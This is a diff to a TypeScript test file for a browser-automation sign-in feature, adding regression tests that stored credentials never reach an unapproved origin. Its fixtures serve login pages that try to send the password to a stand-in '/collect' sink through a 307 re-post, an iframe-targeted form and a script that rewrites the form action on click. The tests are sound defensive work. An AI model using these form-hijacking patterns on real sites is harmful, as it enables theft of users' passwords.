@@ -1,4 +1,4 @@
-import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from "vitest";
 import { prepareStoryboard } from "../../src/domains/storyboards/create-storyboard.js";
 import { sealCredentials, storeCredentials } from "../../src/domains/storyboards/credentials.js";
 import { createJob } from "../../src/jobs/create.js";
@@ -8,6 +8,7 @@ import { sitePolicy } from "../../src/net/guard.js";
 import { staticResolver } from "../../src/net/resolver.js";
 import { openFencedSession } from "../../src/pipelines/walkthrough/fenced-session.js";
 import { SignInError, signIn } from "../../src/pipelines/walkthrough/sign-in.js";
+import { signInWithinApprovedOrigins } from "../../src/pipelines/walkthrough/sign-in-fenced.js";
 import { Harness } from "../../src/testutil/harness.js";
 import { type Recorder, type RecorderHandler, startRecorder } from "../support/recorder-server.js";
 import { DEMO_EMAIL, DEMO_PASSWORD, type Site, startSite } from "../support/site-server.js";
@@ -146,10 +147,13 @@ browserOnly("sign-in types credentials only into approved origins", () => {
       resolver: staticResolver({}),
     });
     try {
-      fenced.fence.setAllowedOrigins([login.url, site.url]);
-      const err = await signIn(fenced.session.page, creds(`${login.url}/login`)).catch((e: unknown) => e);
+      const err = await signInWithinApprovedOrigins(fenced.session.page, creds(`${login.url}/login`), {
+        fence: fenced.fence,
+        startUrl: `${site.url}/`,
+      }).catch((e: unknown) => e);
       expect(err).toMatchObject({ name: "SignInError", reason: "left_approved_origins", origin: elsewhere.url });
-      expect(fenced.proxy.refused.blocked).toBeGreaterThanOrEqual(1);
+      expect(fenced.proxy.refused.not_approved).toBeGreaterThanOrEqual(1);
+      expect(fenced.fence.blocked.origin).toBeGreaterThanOrEqual(1);
       expect(elsewhere.connections).toBe(connections);
     } finally {
       await fenced.close();
@@ -197,5 +201,116 @@ browserOnly("storyboard job whose sign-in leaves the approved origins", () => {
     expect(JSON.stringify(done)).not.toContain(DEMO_PASSWORD);
     expect(elsewhere.requests.slice(before).filter((r) => r.method === "POST")).toEqual([]);
     expect(passwordSeen()).toEqual([]);
+  });
+});
+
+// Issue 19: the review's three hops that leaked the password with today's in-browser checks. Each runs the
+// real storyboard job with 127.0.0.2 allowed by the URL guard (so only the sign-in's fence stands in the
+// way) and a fresh recording listener there that must see no connection at all.
+browserOnly("sign-in hops that leave the approved origins after the form is sent", () => {
+  let h: Harness;
+  let approvedSite: Recorder; // 127.0.0.1: the login page's origin, whose forms are sent in three ways
+  let sink: Recorder; // 127.0.0.2: the origin never approved; re-created per case
+
+  const welcome: RecorderHandler = (_req, res) => {
+    res.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" });
+    res.end("<!doctype html><title>Welcome</title><h1>Welcome back</h1>");
+  };
+
+  const signInPage = (form: string) => `<!doctype html><meta charset="utf-8"><title>Sign in</title>
+<h1>Sign in</h1>${form}`;
+  const fields = `<label for="email">Email</label><input id="email" name="email" type="email" autocomplete="username">
+  <label for="password">Password</label><input id="password" name="password" type="password" autocomplete="current-password">`;
+
+  beforeAll(async () => {
+    h = await Harness.start({ config: { allowPrivateHosts: ["127.0.0.1", "127.0.0.2"] }, rateStore: "memory" });
+    approvedSite = await startRecorder("127.0.0.1", (req, res) => {
+      const path = req.url ?? "/";
+      const html = (body: string) => {
+        res.writeHead(200, { "content-type": "text/html; charset=utf-8", "cache-control": "no-store" });
+        res.end(body);
+      };
+      if (req.method === "POST" && path === "/session") {
+        // The approved origin answers 307: the browser re-posts the form body to the other origin.
+        res.writeHead(307, { location: `${sink.url}/collect`, "content-length": 0 });
+        res.end();
+        return;
+      }
+      if (path === "/login-307")
+        return html(signInPage(`<form method="post" action="/session">${fields}<button>Sign in</button></form>`));
+      if (path === "/login-iframe")
+        return html(
+          signInPage(`<form method="post" action="${sink.url}/collect" target="sink">${fields}<button>Sign in</button></form>
+<iframe name="sink" title="status"></iframe>`),
+        );
+      if (path === "/login-rewrite")
+        // The form looks right until the click: then its action and target go elsewhere.
+        return html(
+          signInPage(`<form id="f" method="post" action="/session-ok">${fields}<button id="go">Sign in</button></form>
+<iframe name="late" title="status"></iframe>
+<script>document.getElementById("go").addEventListener("click", () => {
+  const f = document.getElementById("f"); f.action = ${JSON.stringify(`${sink.url}/collect`)}; f.target = "late";
+}, true);</script>`),
+        );
+      return html("<!doctype html><title>Home</title><h1>Home</h1><a href='/login-307'>Sign in</a>");
+    });
+  });
+  beforeEach(async () => {
+    sink = await startRecorder("127.0.0.2", welcome);
+  });
+  afterEach(async () => {
+    await sink.close();
+  });
+  afterAll(async () => {
+    await approvedSite.close();
+    await h.close();
+  });
+
+  async function storyboardSignedInAt(loginUrl: string) {
+    const user = await h.user();
+    const input = await prepareStoryboard(h.deps, user.id, { url: `${approvedSite.url}/` });
+    const { job } = await createJob(h.deps, {
+      accountId: user.id,
+      kind: "walkthrough.storyboard",
+      input: { ...input, signIn: { loginUrl, additionalLoginOrigins: [] } },
+      reserveSeconds: 0,
+      watermark: false,
+      idempotencyKey: null,
+      requestId: null,
+      onCreate: async (tx, row) => {
+        const creds = { loginUrl, username: DEMO_EMAIL, password: DEMO_PASSWORD, additionalLoginOrigins: [] };
+        await storeCredentials(
+          tx,
+          { ownerId: row.id, accountId: user.id, sealed: sealCredentials(h.deps, creds) },
+          h.clock.now(),
+        );
+      },
+    });
+    await h.drain();
+    return (await h.request("GET", `/storyboards/${job.id}`, { token: user.key })).body;
+  }
+
+  const refusedAtTheSink = (done: unknown) => {
+    expect(done).toMatchObject({
+      state: "failed",
+      error: { code: "login_origins_invalid", retryable: false, reason: expect.stringContaining(sink.url) },
+    });
+    const text = JSON.stringify(done);
+    expect(text).not.toContain(DEMO_PASSWORD);
+    expect(text).not.toContain("/collect"); // the origin only, never a path
+    expect(sink.requests).toEqual([]);
+    expect(sink.connections).toBe(0);
+  };
+
+  it("a 307 from the approved origin to another: the re-posted form never leaves", async () => {
+    refusedAtTheSink(await storyboardSignedInAt(`${approvedSite.url}/login-307`));
+  });
+
+  it("a form whose target is an iframe and whose action is on another origin", async () => {
+    refusedAtTheSink(await storyboardSignedInAt(`${approvedSite.url}/login-iframe`));
+  });
+
+  it("a click handler that rewrites the form's action and target just before the submit", async () => {
+    refusedAtTheSink(await storyboardSignedInAt(`${approvedSite.url}/login-rewrite`));
   });
 });
